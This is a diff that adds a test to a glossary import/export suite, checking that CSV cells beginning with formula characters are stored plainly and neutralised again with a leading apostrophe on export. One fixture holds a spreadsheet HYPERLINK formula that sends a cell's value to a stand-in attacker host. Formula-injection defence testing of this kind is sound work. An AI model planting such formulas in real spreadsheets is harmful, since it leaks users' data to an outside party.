@@ -115,6 +115,27 @@ describeEachDatabase("importing and exporting the glossary", (database) => {
     expect(exported.domains).toContainEqual({ slug: "customer-success", name: "Customer Success" });
   });
 
+  it("stores formula-leading cells without the apostrophe that kept them text, and exports them neutralised again", async () => {
+    const file = [
+      "name,definition,example,formula,aliases,owner,tags,variant:support",
+      `Net Revenue,"'=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")","'+1 555 0100","'-2+3","'@SUM(A1:A9); NR",sales,"'-internal","'=1+1 for support"`,
+      "",
+    ].join("\r\n");
+    await importGlossary(deps, admin, readGlossaryCsv(file));
+    const found = await lookupTerm(deps, "@SUM(A1:A9)");
+    expect(found.kind).toBe("found");
+    if (found.kind !== "found") return;
+    expect(found.details.current).toMatchObject({ text: '=HYPERLINK("https://evil.example/?x="&A1,"Open")', example: "+1 555 0100", formula: "-2+3" });
+    expect(found.details.term.tags).toEqual(["-internal"]);
+    expect(found.details.variants.map((v) => v.text)).toEqual(["=1+1 for support"]);
+
+    const first = writeGlossaryCsv(await exportGlossary(deps));
+    expect(first).toContain(`Net Revenue,"'=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")","'+1 555 0100","'-2+3","'@SUM(A1:A9); NR",sales,`);
+    await resetDatabase(database().db);
+    await importGlossary(deps, admin, readGlossaryCsv(first));
+    expect(writeGlossaryCsv(await exportGlossary(deps))).toBe(first);
+  });
+
   it("round-trips a JSON file with every version's history, proposers and domain names", async () => {
     const file = readGlossaryJson(SAMPLE_JSON);
     expect(await importGlossary(deps, admin, file.records, { domains: file.domains })).toEqual({
